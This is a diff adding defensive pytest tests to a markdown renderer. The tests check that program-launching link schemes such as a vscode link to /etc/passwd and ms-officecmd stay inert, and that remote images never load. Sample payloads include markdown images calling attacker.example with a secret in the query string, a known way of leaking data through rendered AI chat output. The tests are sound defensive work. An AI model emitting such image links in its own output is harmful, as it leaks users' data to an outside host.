@@ -395,3 +395,28 @@ def test_prompt_cli_still_parses_without_export(capsys):
     with pytest.raises(SystemExit) as exc:
         main(["--help"])
     assert exc.value.code == 0 and "prompt" in capsys.readouterr().out
+
+
+# -- links and images ------------------------------------------------------------------------------
+
+PROGRAM_LINKS = ["vscode://file/etc/passwd", "ms-officecmd:launch", "ssh://host", "rel/page.html"]
+
+
+@pytest.mark.parametrize("target", PROGRAM_LINKS)
+def test_only_web_mail_and_anchor_links_are_live(target):
+    text = f"[open]({target}) [web](https://x.org) [m](mailto:a@b.c) [t](#t)"
+    html_out = render.markdown_html(text)
+    assert f"[open]({target})" in html_out  # shown as the text it was
+    assert re.findall(r'href="([^"]*)"', html_out) == ["https://x.org", "mailto:a@b.c", "#t"]
+    assert render.safe_markdown(f"[open]({target})") != f"[open]({target})"  # not verbatim
+    assert render.safe_markdown("[web](https://x.org)") == "[web](https://x.org)"
+
+
+@pytest.mark.parametrize(
+    "text",
+    ["![x](https://attacker.example/?q=SECRET)", "![x][i]\n\n[i]: https://attacker.example/?q=S"],
+)
+def test_a_remote_image_is_a_link_and_never_loads(text):
+    for out in (render.markdown_html(text), render.safe_markdown(text)):
+        assert "<img" not in out and 'href="https://attacker.example/?q=S' in out
+    assert "![" not in render.safe_markdown(text)  # a markdown file never holds the image
